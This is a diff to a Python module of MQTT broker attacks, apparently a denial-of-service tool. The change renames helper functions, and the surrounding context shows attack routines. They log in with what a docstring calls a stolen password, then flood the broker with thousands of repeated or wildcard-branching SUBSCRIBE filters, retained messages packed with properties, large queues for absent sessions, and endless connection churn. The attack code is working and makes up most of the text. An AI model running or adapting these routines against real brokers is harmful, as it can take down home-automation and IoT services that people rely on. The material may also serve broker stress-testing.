@@ -97,7 +97,7 @@ async def cheap(target: Target) -> AsyncIterator[None]:
         yield
 
 
-async def _login(target: Target, client_id: str, user: str, *, clean: bool = True) -> Peer:
+async def login(target: Target, client_id: str, user: str, *, clean: bool = True) -> Peer:
     """A connection with a stolen password, under MQTT 5."""
     secure = None
     if target.tls:
@@ -119,18 +119,18 @@ async def _login(target: Target, client_id: str, user: str, *, clean: bool = Tru
     return reader, writer
 
 
-async def _swallow(reader: asyncio.StreamReader) -> None:
+async def swallow(reader: asyncio.StreamReader) -> None:
     with contextlib.suppress(OSError):
         while await reader.read(1 << 20):
             pass
 
 
-async def _write_on(target: Target, name: str, packets: Sequence[bytes], *, pause: float, user: str) -> None:
+async def write_on(target: Target, name: str, packets: Sequence[bytes], *, pause: float, user: str) -> None:
     """Send these over and over, coming back whenever the door hangs up."""
     while True:
         with contextlib.suppress(OSError):
-            reader, writer = await _login(target, name, user)
-            swallowing = asyncio.create_task(_swallow(reader))
+            reader, writer = await login(target, name, user)
+            swallowing = asyncio.create_task(swallow(reader))
             for packet in itertools.cycle(packets):
                 writer.write(packet)
                 await writer.drain()
@@ -144,16 +144,16 @@ async def _write_on(target: Target, name: str, packets: Sequence[bytes], *, paus
 @attack("a SUBSCRIBE that repeats one filter", number=5)
 async def repeating(target: Target) -> AsyncIterator[None]:
     """38 kB of the same filter, again and again, with messages retained under it."""
-    reader, writer = await _login(target, "retaining", "gateway")
+    reader, writer = await login(target, "retaining", "gateway")
     for number in range(target.part_of(2_000)):
         writer.write(publish_bytes(V5, f"zigbee2mqtt/x/{number}", b"." * 100, retain=True))
     await writer.drain()
     many = subscribe_bytes(V5, 1, [Request("zigbee2mqtt/#", 1)] * 2_300, Properties())
     some = subscribe_bytes(V5, 1, [Request("zigbee2mqtt/#", 1)] * 200, Properties())
     async with meanwhile(
-        _swallow(reader),
-        _write_on(target, "repeating", [many], pause=0.1, user="gateway"),
-        _write_on(target, "repeating some", [some], pause=0.1, user="gateway"),
+        swallow(reader),
+        write_on(target, "repeating", [many], pause=0.1, user="gateway"),
+        write_on(target, "repeating some", [some], pause=0.1, user="gateway"),
     ):
         await asyncio.sleep(2)
         yield
@@ -166,7 +166,7 @@ async def branching(target: Target) -> AsyncIterator[None]:
     wild = [
         "zigbee2mqtt/" + "/".join("+" if number >> at & 1 else "a" for at in range(depth)) for number in range(1, 1_001)
     ]
-    peers = [await _login(target, f"branching {n}", "gateway") for n in range(4)]
+    peers = [await login(target, f"branching {n}", "gateway") for n in range(4)]
     for _, writer in peers:
         for start in range(0, len(wild), 200):
             requests = [Request(one, 0) for one in wild[start : start + 200]]
@@ -175,8 +175,8 @@ async def branching(target: Target) -> AsyncIterator[None]:
     topic = "zigbee2mqtt/" + "/".join(["a"] * depth)
     message = publish_bytes(V5, topic, b"x", qos=1, packet_id=1) * 20
     async with meanwhile(
-        *(_swallow(reader) for reader, _ in peers),
-        _write_on(target, "matching", [message], pause=0.02, user="gateway"),
+        *(swallow(reader) for reader, _ in peers),
+        write_on(target, "matching", [message], pause=0.02, user="gateway"),
     ):
         await asyncio.sleep(2)
         yield
@@ -186,20 +186,20 @@ async def branching(target: Target) -> AsyncIterator[None]:
 async def filling(target: Target) -> AsyncIterator[None]:
     """Retained messages full of properties, long filters, queues of many absent sessions, wills, and slow readers."""
     pairs = Properties(user=tuple(("k" * 400, "v" * 400) for _ in range(60)))
-    reader, writer = await _login(target, "filling", "gateway")
-    swallowing = asyncio.create_task(_swallow(reader))
+    reader, writer = await login(target, "filling", "gateway")
+    swallowing = asyncio.create_task(swallow(reader))
     for number in range(target.part_of(10_000)):
         topic = f"zigbee2mqtt/{number}/" + "/".join("x" * 100)
         writer.write(publish_bytes(V5, topic, b"x", retain=True, properties=pairs))
         await writer.drain()
     for number in range(target.part_of(1_000)):
-        absent, its = await _login(target, f"absent {number}", "gateway", clean=False)
+        absent, its = await login(target, f"absent {number}", "gateway", clean=False)
         filters = [Request(f"zigbee2mqtt/{n}/" + "y" * 900, 1) for n in range(50)]
         its.write(subscribe_bytes(V5, 1, [Request("zigbee2mqtt/queued", 1), *filters], Properties()))
         await absent.read(64)
         its.transport.abort()
     message = publish_bytes(V5, "zigbee2mqtt/queued", b"." * 100_000, qos=1, packet_id=1)
-    async with meanwhile(_write_on(target, "queueing", [message], pause=0.01, user="gateway")):
+    async with meanwhile(write_on(target, "queueing", [message], pause=0.01, user="gateway")):
         await asyncio.sleep(2)
         yield
     swallowing.cancel()
@@ -212,7 +212,7 @@ async def crowding(target: Target) -> AsyncIterator[None]:
     async def crowd() -> None:
         for number in itertools.count():
             with contextlib.suppress(OSError):
-                _, writer = await _login(target, f"crowd {number}", "gateway", clean=False)
+                _, writer = await login(target, f"crowd {number}", "gateway", clean=False)
                 writer.transport.abort()
 
     async with meanwhile(*(crowd() for _ in range(4))):
